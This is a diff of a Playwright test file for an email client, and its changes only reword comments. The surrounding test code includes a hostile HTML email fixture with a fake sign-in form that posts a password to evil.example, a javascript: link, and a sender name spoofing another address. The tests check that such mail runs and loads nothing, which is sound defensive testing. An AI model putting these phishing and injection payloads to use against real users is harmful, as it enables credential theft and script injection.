@@ -87,7 +87,7 @@ test("a sender whose name looks like another address is shown by their own, and 
   await expect(row(page, "Pay this")).not.toContainText("boss@vanda.example");
   await row(page, "Pay this").click();
   const mail = reading(page, "Pay this").getByRole("article", { name: "attacker@evil.example" });
-  // The panel next to the email, where a contact is created from it, does not show it either.
+  // The panel next to the email, in which a contact is created, does not show the address either.
   await expect(page.getByText("boss@vanda.example", { exact: true })).toHaveCount(0);
   await expect(mail).toContainText("The sender name “boss@vanda.example” looks like another address.");
   await expect(mail).toContainText("This email lists several senders: attacker@evil.example and lee@oak.example.");
@@ -195,11 +195,11 @@ const hostile = (port: string) => `<!doctype html><html><head>
   <form action="https://evil.example/form"><input name="password" value="abc"><button>Sign in again</button></form>
   <a href="javascript:parent.pwned=1">Run</a> <a href="https://fine.example:${port}/page" target="_self" rel="opener">Our page</a></body></html>`;
 
-/** Records requests to other hosts, and whether any script of an email ran. */
+/** Records requests to other hosts, and any script of an email that ran. */
 async function watch(page: Page) {
   const asked: string[] = [];
   const own = new URL(page.url()).origin;
-  // Requests blocked by a policy never get here.
+  // Requests blocked by a policy are not seen here.
   await page.context().route(
     (url) => url.origin !== own,
     async (route) => {
@@ -242,7 +242,7 @@ test("a hostile email runs nothing, loads nothing, and its links only open new t
   ).toHaveCount(0);
   await frame(page).getByText("Run").click();
   await watched.expectNothing();
-  // External links open a new tab, without opener or referrer.
+  // External links open in a new tab, without opener or referrer.
   await context.route("https://fine.example:1/**", (route) =>
     route.fulfill({ contentType: "text/html", body: "<p>Outside</p>" }),
   );
